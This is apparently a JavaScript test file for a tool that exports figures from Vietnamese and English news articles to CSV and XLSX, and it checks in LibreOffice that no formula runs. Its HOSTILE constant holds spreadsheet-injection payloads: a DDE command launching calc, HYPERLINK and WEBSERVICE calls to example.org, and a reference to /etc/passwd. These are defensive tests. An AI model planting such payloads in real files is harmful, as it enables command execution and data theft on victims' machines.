// @ts-check
/**
 * Sheets as LibreOffice opens them, under a Vietnamese and an English locale, read back cell by cell: the figures are the
 * text of the article, numbers, dates and shares are real ones, and nothing of an article is ever run.
 *
 * `cargo xtask sheets [FILE…]` installs LibreOffice where it is missing, and reads articles of its caller as well.
 */
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { parse } from "csv-parse/sync";
import { convert, readBook, whereOffice } from "../support/office.mjs";
import { root } from "../support/browser.mjs";
import { Chromium } from "./desk.mjs";

/** @typedef {Awaited<ReturnType<Chromium["open"]>>} Desk */
/** @typedef {import("../support/office.mjs").Cell} Cell */

const HOSTILE = [
  '=HYPERLINK("http://example.org/?q="&A1,"12 hộ")',
  "=cmd|' /C calc'!A0 có 13 người",
  "+14 xã, -15 thôn, @SUM(16) bản",
  "=WEBSERVICE(\"http://example.org/17\") 17 cây",
  "='file:///etc/passwd'#$Sheet1.A1 18 con",
  '"=1+19" 19 nhà; 20 nhà',
  "\t=21+1 21 cầu",
].join("\n");

const VI = {
  lang: /** @type {"vi" | "en"} */ ("vi"),
  locale: /** @type {import("../support/office.mjs").Locale} */ ("vi-VN"),
  separator: ";",
  decimal: ",",
  article: `Xã Mường Nọc sáp nhập 4/4 chi bộ\n\nTính đến 2/7, xã có 3.953 người, hơn 99,4% đã khai báo; 100% số bản có điện.\n\nNgày 2/7/2020, ông Minh 52 tuổi nhận 1,5 triệu đồng; giá tăng 0,5 điểm phần trăm, đường dài 12,75 km, 2/21 đơn vị chậm. Năm 2019 là 120 hộ, tỷ lệ 30/120 hộ (chiếm 26%). Nợ 12345678901234567890 đồng.\n\n${HOSTILE}`,
  figure: "Số trong bài",
  value: "Giá trị",
  unit: "Đơn vị",
  when: "Thời điểm",
  numbers: ["Giá trị", "Đến", "Trên tổng", "Đoạn"],
};

/** The languages of the page, each on a machine with a locale; the last is a Vietnamese desk with English settings. */
const DESKS = {
  vi: VI,
  en: {
    lang: /** @type {"vi" | "en"} */ ("en"),
    locale: /** @type {import("../support/office.mjs").Locale} */ ("en-US"),
    separator: ",",
    decimal: ".",
    article: `Parish merges 4 of 4 branches\n\nThe parish has 3,953 people, 99.4% of them registered.\n\nOn 2 July 2020, Mr Lee, 52, was paid $1.5m; the road is 12.75 km long, and 2/21 units are late. In 2019 there were 120 homes.\n\n${HOSTILE}`,
    figure: "In the text",
    value: "Value",
    unit: "Unit",
    when: "When",
    numbers: ["Value", "To", "Out of", "Paragraph"],
  },
  mixed: { ...VI, locale: /** @type {import("../support/office.mjs").Locale} */ ("en-US"), separator: ",", decimal: "." },
};
/** @typedef {keyof typeof DESKS} Place */

const office = whereOffice();
const skip = office === undefined ? "LibreOffice is not on this machine; `cargo xtask sheets` installs it" : false;
/** Further articles, in files that SOLIEU_SHEETS names. */
const named = (process.env["SOLIEU_SHEETS"] ?? "").split(path.delimiter).filter(Boolean).map((file) => path.resolve(root, file));

/** @type {Chromium} */
let browser;
/** @type {string} */
let folder;
/** @type {import("playwright-core").Page} */
let reader;
before(async () => {
  if (skip) return;
  browser = await Chromium.start();
  folder = await mkdtemp(path.join(os.tmpdir(), "sheets-"));
  reader = await (await browser.browser.newContext()).newPage();
});
after(async () => {
  if (skip) return;
  await browser.stop();
  await rm(folder, { recursive: true, force: true });
});

/** Saves the sheets that the page gives of an article. @param {Place} place @param {string} article @param {string} name */
async function save(place, article, name) {
  const { lang, separator } = DESKS[place];
  const desk = await browser.open({ lang });
  try {
    await desk.paste(article);
    await desk.keepFiles();
    if (lang === "vi" && separator === ",") {
      await desk.click("#more");
      for (const choice of ['[name="delimiter"][value="comma"]', '[name="decimal"][value="point"]']) await desk.click(`#take-menu input${choice}`);
      await desk.press("Escape");
    }
    await desk.click("#csv");
    await writeFile(path.join(folder, `${name}.csv`), await desk.lastFile());
    await desk.click("#more");
    await desk.run(() => [...document.querySelectorAll("#take-menu > button")].find((button) => button.textContent?.includes(".xlsx"))?.dispatchEvent(new MouseEvent("click")));
    await desk.until(() => /** @type {any} */ (window).keptFiles.length === 2);
    await writeFile(path.join(folder, `${name}.xlsx`), await desk.lastFile());
    return await desk.marks();
  } finally {
    await desk.close();
  }
}

/** The rows of a CSV by their headings, as they are written. @param {Place} place @param {string} name @returns {Promise<Record<string, string>[]>} */
async function written(place, name) {
  return parse(await readFile(path.join(folder, `${name}.csv`), "utf8"), { bom: true, delimiter: DESKS[place].separator, columns: true });
}

/** The rows of a sheet by the headings in its first. @param {Cell[][]} rows */
function byHeading([head = [], ...rows]) {
  return rows.map((row) => Object.fromEntries(head.map(({ text }, index) => [text, row[index] ?? { type: "empty", value: "", text: "" }])));
}

const DATE = /^\d{4}-\d\d-\d\d$/;
/** A text as it is without the quotes that keep it a text. @param {string} text */
const bare = (text) => text.replace(/^“([^]*)”$/, "$1");
/** Spaces and line ends as LibreOffice folds them in what it shows. @param {string} text */
const folded = (text) => text.replace(/\s+/g, " ").trim();

/**
 * Holds what was read of a CSV against what was written.
 * @param {Place} place
 * @param {Record<string, string>[]} rows
 * @param {Record<string, Cell>[]} read
 */
function compareCsv(place, rows, read) {
  const { decimal, numbers, when } = DESKS[place];
  let cells = 0;
  assert.equal(read.length, rows.length, "rows");
  rows.forEach((row, index) => {
    for (const [heading, content] of Object.entries(row)) {
      const cell = read[index]?.[heading];
      const where = `${heading} of row ${index + 1}: ${content}`;
      cells++;
      assert.ok(cell, where);
      if (content === "") assert.equal(cell.type, "empty", where);
      else if (numbers.includes(heading) && !content.startsWith("“") && content.replace(/\D/g, "").length <= 15) {
        assert.equal(cell.type, "float", where);
        assert.equal(Number(cell.value), Number(content.replace(decimal, ".")), where);
      } else if (heading === when && DATE.test(content)) {
        assert.equal(cell.type, "date", where);
        assert.equal(cell.value, content, where);
      } else if (heading === when && /^\d{4}$/.test(content)) {
        assert.equal(cell.type, "float", where);
      } else {
        assert.equal(cell.type, "string", where);
        assert.equal(folded(cell.text), folded(content), where);
      }
    }
  });
  return cells;
}

/**
 * Holds what was read of a workbook against what was written as CSV: here texts need no quotes, and shares are shares.
 * @param {Place} place
 * @param {Record<string, string>[]} rows
 * @param {Record<string, Cell>[]} read
 */
function compareBook(place, rows, read) {
  const { decimal, numbers, value, unit, when } = DESKS[place];
  assert.equal(read.length, rows.length, "rows");
  rows.forEach((row, index) => {
    for (const [heading, content] of Object.entries(row)) {
      const cell = read[index]?.[heading];
      const where = `${heading} of row ${index + 1}: ${content}`;
      assert.ok(cell, where);
      if (content === "") assert.equal(cell.type, "empty", where);
      else if (numbers.includes(heading) && cell.type !== "string") {
        const number = Number(content.replace(decimal, "."));
        const isShare = heading === value && row[unit] === "“%”" || heading === value && row[unit] === "%";
        assert.equal(cell.type, isShare ? "percentage" : "float", where);
        assert.ok(Math.abs(Number(cell.value) - (isShare ? number / 100 : number)) <= Math.abs(number) * 1e-14, `${where} was read as ${cell.value}`);
      } else if (heading === when && DATE.test(content)) {
        assert.equal(cell.type, "date", where);
        assert.equal(cell.value.slice(0, 10), content, where);
      } else if (heading === when && /^\d{4}$/.test(content)) {
        assert.equal(cell.type, "float", where);
      } else {
        assert.equal(cell.type, "string", where);
        assert.equal(folded(cell.text).replace(/^'/, ""), folded(bare(content)).replace(/^'/, ""), where);
      }
    }
  });
}

for (const place of /** @type {const} */ (["vi", "en", "mixed"])) {
  test(`${DESKS[place].lang} page, ${DESKS[place].locale}: CSV and workbook open as what they are`, { skip }, async () => {
    const { locale, separator, figure, article } = DESKS[place];
    const names = [`own-${place}`];
    const marks = new Map([[`own-${place}`, await save(place, article, `own-${place}`)]]);
    for (const [index, file] of named.entries()) {
      const name = `named-${index}-${place}`;
      names.push(name);
      marks.set(name, await save(place, await readFile(file, "utf8"), name));
    }
    const [asCsv, asBook] = ["csv", "xlsx"].map((kind) => path.join(folder, `${kind}-${place}`));
    await convert(/** @type {string} */ (office), locale, names.map((name) => path.join(folder, `${name}.csv`)), /** @type {string} */ (asCsv), separator);
    await convert(/** @type {string} */ (office), locale, names.map((name) => path.join(folder, `${name}.xlsx`)), /** @type {string} */ (asBook));
    let cells = 0;
    for (const name of names) {
      const rows = await written(place, name);
      const csv = await readBook(reader, path.join(/** @type {string} */ (asCsv), `${name}.fods`));
      const book = await readBook(reader, path.join(/** @type {string} */ (asBook), `${name}.fods`));
      for (const opened of [csv, book]) {
        assert.equal(opened.formulas, 0, `${name} runs a formula`);
        assert.deepEqual(opened.references, [], `${name} points outside`);
      }
      const read = byHeading(csv.sheets[0]?.rows ?? []);
      cells += compareCsv(place, rows, read);
      compareBook(place, rows, byHeading(book.sheets[0]?.rows ?? []));
      // The column of figures without its quotes is the article's own text.
      const texts = read.map((row) => row[figure]?.text ?? "");
      assert.ok(texts.every((text) => /^“[^]*”$/.test(text)));
      const own = new Set((marks.get(name) ?? []).map(folded));
      for (const text of texts) assert.ok(own.has(folded(bare(text))), `${text} stands in no mark`);
      assert.equal(book.sheets.at(-1)?.rows.every(([cell]) => cell?.type === "string"), true, "the article is text");
    }
    console.log(`${place}, ${locale}: ${cells} cells of ${names.length} articles`);
  });
}

test("what a Vietnamese spreadsheet would turn into dates and numbers stays as it is written", { skip }, async () => {
  const rows = byHeading((await readBook(reader, path.join(folder, "csv-vi", "own-vi.fods"))).sheets[0]?.rows ?? []);
  const texts = rows.map((row) => bare(row["Số trong bài"]?.text ?? ""));
  for (const text of ["4/4", "2/7", "3.953", "99,4%", "100%", "2/21", "52 tuổi", "12345678901234567890 đồng"]) assert.ok(texts.includes(text), `${text} is none of ${texts.join(", ")}`);
  const row = (/** @type {string} */ text) => rows[texts.indexOf(text)] ?? {};
  assert.equal(row("3.953")["Giá trị"]?.value, "3953");
  assert.equal(row("99,4%")["Giá trị"]?.value, "99.4");
  assert.equal(row("Ngày 2/7/2020")["Thời điểm"]?.value, "2020-07-02");
  assert.deepEqual([row("2/7")["Thời điểm"]?.type, row("2/7")["Thời điểm"]?.text], ["string", "“2/7”"]);
  assert.equal(row("12345678901234567890 đồng")["Giá trị"]?.type, "string", "more digits than a spreadsheet keeps");
});
